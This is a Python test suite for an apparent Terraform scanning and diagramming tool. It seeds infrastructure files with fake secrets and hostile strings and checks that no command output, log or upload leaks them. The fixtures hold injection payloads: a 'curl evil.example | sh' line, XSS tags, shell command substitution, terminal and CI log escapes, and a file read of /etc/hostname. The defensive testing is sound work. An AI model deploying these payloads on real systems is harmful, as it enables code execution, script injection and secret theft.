"""Markers in names and values of what is read: no output of any command has one, nor does what is uploaded.

Each round plants secrets, each with a word of its own that nothing else has, and text that does harm where it is taken
for more than text. What is tried: secrets under sensitive keys, marked as sensitive, that look like secrets, that
functions transform, that are cut where of a long text a part is shown; escape sequences, what turns text, line breaks,
log commands, HTML, Markdown, templates, shell; paths of this machine; as values and as names; in JSON and in plans.
"""

from __future__ import annotations

import json
import random
import re
import string
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

from latticelink import in_deploy_order
from latticelink.cli.main import main
from latticelink.disclosure import line
from latticelink.lab.reading import model_of
from latticelink.lab.report import everything, header, remarks
from latticelink.network.reading import read
from latticelink.terraform.inputs import Input

import pytest

from tests.paths.topologies import TARGET_IN, Stacks, drop, right
from tests.terraform.test_plans import write_plans
from tests.test_deploy_script import LEFT_OUT, packed, synthesised
from tests.test_deploy_script import deploy as deploy
from tests.test_disclosure import COMMANDS, HARM, texts

ROUNDS = 4
KEYS = ("password", "db_password", "API_TOKEN", "secret_string", "client_secret", "aws_secret_access_key", "auth_token")
HARMFUL = (
    "\x1b]0;{}\x07\x1b[2J",
    "a\n::error file=x.tf,line=1::{}",
    "a\r\n  fix:   curl evil.example | sh {}",
    "\u202e{}\u2066",
    "zero\u200bwidth{}\u2028",
    "##[error]{}",
    "</script><img src=x onerror=alert({})>",
    "\"><svg onload=alert({})>",
    "`$(touch ran)`; touch ran #{}",
    "$${{file(\"/etc/hostname\")}} %%{{ for x in y }} {}",
    "[mend](https://evil.example/{})",
    "]]>--><!-- {} &lt;b&gt;",
    "{}\x00\x9b31m",
)  # fmt: skip
# What a page or a picture would take for a part of itself.
LINK, MARKUP = r"\]\(https://evil", r"<img src|<svg onload|</script><|<!-- [0-9]"
# A label in a flowchart is no Markdown.
FLOWCHART = re.compile(r"^```mermaid$.*?^```$", re.M | re.S)
TAKEN_FOR_PARTS = {
    "draw": MARKUP,
    "draw --format html": MARKUP,
    "draw --format mermaid": f"{LINK}|{MARKUP}",
}
TRANSFORMED = (
    "${{var.{0}}}",
    "a ${{var.{0}}} b",
    "${{upper(var.{0})}}",
    "${{base64encode(var.{0})}}",
    "${{substr(var.{0}, 0, 9)}}",
    "${{replace(var.{0}, \"-\", \"_\")}}",
    "${{join(\".\", [var.{0}, \"x\"])}}",
    "${{[for each in [var.{0}] : lower(each)][0]}}",
    "${{jsonencode({{a = var.{0}}})}}",
    "${{split(\"-\", var.{0})[0]}}",
    "${{format(\"%s!\", strrev(var.{0}))}}",
)  # fmt: skip


class Planted:
    """What one round puts in, and how to see that it came out."""

    def __init__(self, seed: int) -> None:
        self.choose = random.Random(seed)
        self.secrets: list[str] = []

    def secret(self) -> str:
        """Return a secret whose first word stands nowhere else."""
        word = "Zq" + "".join(self.choose.choices(string.ascii_letters + string.digits, k=10))
        self.secrets.append(word)
        more = self.choose.choice(("", "-tail", '"quoted"', "\\back/slash", "\nline", "é\u202e", " and more", "<b>"))
        return word + more

    def looks(self) -> str:
        """Return what looks like a secret wherever it stands."""
        word = "".join(self.choose.choices(string.ascii_uppercase + string.digits, k=16))
        self.secrets.append(word)
        return self.choose.choice(
            (f"AKIA{word}", f"ghp_{word}{'a1' * 10}", f"xoxb-{word}", f"abcdefghijklmn.atlasv1.{word}{'x' * 60}")
        )

    def harm(self) -> str:
        return self.choose.choice(HARMFUL).format(self.choose.randrange(1000))

    def text(self, *secrets: str) -> str:
        """Return a text with secrets and harm in it, perhaps so long that only a part of it is shown."""
        parts = [*secrets, self.harm(), self.looks()]
        self.choose.shuffle(parts)
        return "x" * self.choose.choice((0, 0, 60, 85, 95, 110)) + " " + " ".join(parts)

    def forms(self) -> Iterator[str]:
        """Yield what must not be seen: each secret, and what functions make of it."""
        for word in self.secrets:
            yield from (word, word.upper(), word.lower(), word[::-1], word[:9])


def planted(seed: int) -> tuple[Planted, Stacks]:
    """Return a topology with something planted in most of its places."""
    plant, stacks = Planted(seed), right()
    choose = plant.choose
    for change in (drop(*TARGET_IN),) if seed % 2 else ():
        change(stacks)
    for stack in stacks.values():
        known = plant.secret()
        variables = {f"v{n}": {"sensitive": True, "type": "string", "default": plant.secret()} for n in range(3)}
        stack["variable"] = variables
        stack["locals"] = {"m": {"a": "b"}, choose.choice(KEYS): plant.secret()}
        stack["output"] = {**stack.get("output", {}), "o": {"sensitive": True, "value": plant.secret()}}
        for kind, blocks in list(stack["resource"].items()):
            for body in blocks.values():
                made = choose.choice(TRANSFORMED).format(choose.choice(list(variables)))
                body["description"] = choose.choice((plant.text(known), made))
                body["tags"] = {"Name": choose.choice((plant.text(known), made)), choose.choice(KEYS): known}
                body[choose.choice(KEYS)] = choose.choice((plant.secret(), [plant.secret()], {"a": plant.secret()}))
            if blocks and choose.random() < 0.3:
                blocks[plant.harm()] = {**next(iter(blocks.values())), "tags": {plant.harm(): plant.text(known)}}
            if blocks and kind == "aws_instance":
                next(iter(blocks.values()))["user_data"] = (
                    f"#!/bin/sh\nexport API_TOKEN={plant.secret()}\ncat /home/me/x"
                )
        stack["resource"]["aws_db_instance"] = {"d": {"password": known, "identifier": plant.text(known)}}
    return plant, stacks


def refuse_markers(plant: Planted, what: str, text: str, folder: Path) -> None:
    """Fail if something that was planted, or a path of this machine, is in what a command said."""
    for form in plant.forms():
        assert form not in text, (what, text[max(text.find(form) - 200, 0) : text.find(form) + 60])
    harm = HARM.search(text)
    assert harm is None, (what, text[max(harm.start() - 200, 0) : harm.end() + 60])
    if what in TAKEN_FOR_PARTS:
        part = re.search(TAKEN_FOR_PARTS[what], FLOWCHART.sub("", text))
        assert part is None, (what, part)
    assert str(folder) not in text, what
    if "sarif" in what:
        told = [each["message"]["text"] for each in json.loads(text)["runs"][0]["results"]]
        assert re.search(LINK, " ".join(told)) is None, what
    if "json" in what or "sarif" in what:
        for each in texts(json.loads(text)):
            assert HARM.search(each) is None, (what, each)
            assert "\n" not in each, (what, each)


@pytest.mark.parametrize("form", ["folder", "plans"])
@pytest.mark.parametrize("seed", range(ROUNDS))
def test_no_marker_leaves_by_any_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, seed: int, form: str
) -> None:
    monkeypatch.chdir(tmp_path)
    plant, stacks = planted(seed)
    folder = Path("in")
    folder.mkdir()
    if form == "folder":
        for name, content in stacks.items():
            (folder / name).mkdir()
            (folder / name / "main.tf.json").write_text(json.dumps(content))
    else:
        write_plans(folder, stacks)
    for command in COMMANDS:
        assert main([*command, "in"]) in (0, 1), command
        sent = capsys.readouterr()
        assert len(sent.out) > 100, command
        refuse_markers(plant, " ".join(command), sent.out, tmp_path)
        refuse_markers(plant, "errors", sent.err, tmp_path)
    model = model_of(read([Input(folder)]))
    told = [*header("in", model), *remarks(model), everything(model)]
    refuse_markers(plant, "lab", "\n".join(map(line, told)), tmp_path)
    assert not (tmp_path / "ran").exists()


LOG = [
    "\x1b[1mError\x1b[0m: {} {}",
    "::add-mask::{} {}",
    "plan:\r\x1b[2K{}{}",
]


@pytest.mark.parametrize("seed", range(ROUNDS))
def test_no_marker_is_in_what_is_uploaded_or_in_a_log_that_is_shown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], deploy: ModuleType, seed: int
) -> None:
    plant = Planted(seed)
    stack = synthesised(tmp_path)
    for name in (*LEFT_OUT, ".terraform/environment", "assets/module/0C/terraform.tfvars.json"):
        (stack / name).parent.mkdir(parents=True, exist_ok=True)
        (stack / name).write_text(plant.secret())
    content = json.loads((stack / "cdk.tf.json").read_text())
    known = plant.secret().split("\n")[0]
    content["variable"] = {"x": {"sensitive": True, "default": known}}
    (stack / "cdk.tf.json").write_text(json.dumps(content))
    deploy.Place.read(in_deploy_order(tmp_path / "cdktf.out")[0])
    uploaded = b"".join(packed(deploy, tmp_path).extractfile(name).read() for name in ("cdk.tf.json",))  # type: ignore[union-attr]
    names = packed(deploy, tmp_path).getnames()
    assert names == ["cdk.tf.json"]
    assert not any(word.encode() in uploaded for word in plant.secrets[:-1])
    capsys.readouterr()
    structured = json.dumps({"@message": plant.harm(), "diagnostic": {"detail": f"{known}: {plant.looks()}"}})
    for told in (structured, *(form.format(plant.harm(), known) for form in LOG)):
        deploy._say(deploy._plain(deploy._COLOUR.sub("", told)))
    refuse_markers(plant, "log", capsys.readouterr().out, tmp_path)


BROKEN: list[tuple[str, Callable[[Planted], Any]]] = [
    ("a part of another name", lambda plant: {plant.harm(): 1}),
    ("a list in place of a block", lambda plant: {"resource": {plant.harm(): {plant.harm(): [[]]}}}),
    ("a loop", lambda plant: {"locals": {"a": "${local.b}", "b": f"${{local.a}}{plant.text()}"}}),
    (
        "a suppression",
        lambda plant: {"//": {"latticelink": {"suppress": [{"check": plant.text(), "token": plant.secret()}]}}},
    ),
    (
        "no plan",
        lambda plant: {"planned_values": {"root_module": {"resources": [{plant.harm(): {"token": plant.secret()}}]}}},
    ),
]  # fmt: skip


@pytest.mark.parametrize(("what", "make"), BROKEN, ids=[row[0] for row in BROKEN])
@pytest.mark.parametrize("seed", range(ROUNDS))
def test_no_marker_is_in_a_refusal(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    seed: int,
    what: str,
    make: Callable[[Planted], Any],
) -> None:
    monkeypatch.chdir(tmp_path)
    plant = Planted(seed)
    (tmp_path / "main.tf.json").write_text(json.dumps(make(plant)))
    harm = plant.harm().replace("\x00", "").replace("/", "")
    for command in ("check", "draw"):
        for arguments in (["main.tf.json"], ["."], ["--as", f"{harm}=main.tf.json"], [harm]):
            main(
                [command, *arguments] if not arguments[0].startswith("-") or arguments[0] == "--as" else [command, "."]
            )
            sent = capsys.readouterr()
            refuse_markers(plant, what, sent.out + sent.err, tmp_path)
